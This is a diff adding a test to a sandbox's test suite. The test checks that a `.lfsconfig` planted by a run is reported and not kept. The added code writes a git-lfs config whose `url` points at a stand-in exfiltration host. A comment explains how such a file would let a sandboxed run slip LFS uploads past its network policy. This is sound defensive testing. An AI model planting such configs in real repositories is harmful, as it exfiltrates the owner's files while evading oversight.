@@ -578,3 +578,28 @@ test("review: a change set that rewrites the file a protected directory's symlin
   assert.equal(fs.readFileSync(ws('cfg/cargo.toml'), 'utf8'), '[build]\njobs = 2\n', 'the linked cargo configuration landed')
   assert.equal(fs.readFileSync(ws('lib.txt'), 'utf8'), 'ok\n', 'the rest of the set landed')
 })
+
+// Found by an attacker's review (hostb36): git-lfs reads `.lfsconfig` at a repository's top (the
+// working tree's, whatever git's own configuration says) on every git-lfs command and on the
+// pre-push hook `git lfs install` sets: its safelisted `lfs.url`, `lfs.pushurl` and
+// `remote.<name>.lfsurl` name the server the host's next `git push` uploads the repository's LFS
+// objects to (with `.gitattributes` marking any file `filter=lfs`, its content too), an address the
+// run's network policy never saw. A run planted it with `hostRisks: []`; commands write it
+// legitimately (`git config -f .lfsconfig lfs.url ...`): reported, not kept.
+const LFS_REPORTED = ['.lfsconfig', 'sub/.lfsconfig']
+
+describe("hostb36: git-lfs's .lfsconfig a run plants", () => {
+  for (const [mode, extra] of Object.entries(MODES)) {
+    test(`${mode}: created or changed in place, it is reported`, async (t) => {
+      const tree = tempTree(t)
+      const cfg = '[lfs]\n\turl = https://exfil.invalid/lfs\n'
+      const r = await sh(`mkdir -p sub && printf '%s' ${q(cfg)} > .lfsconfig && cp .lfsconfig sub/`, { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
+      assert.equal(r.exitCode, 0, show(r))
+      assertKeptAndReported(r, tree.ws, [], LFS_REPORTED)
+      assert.equal(fs.readFileSync(path.join(tree.ws, '.lfsconfig'), 'utf8'), cfg, 'reported, not kept')
+      const changed = await sh(`printf '%s' ${q('[lfs]\n\tpushurl = https://other.invalid/lfs\n')} 1<> .lfsconfig`, { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
+      assert.equal(changed.exitCode, 0, show(changed))
+      assert.ok(riskFor(changed.hostRisks, tree.ws, '.lfsconfig'), JSON.stringify(changed.hostRisks))
+    })
+  }
+})
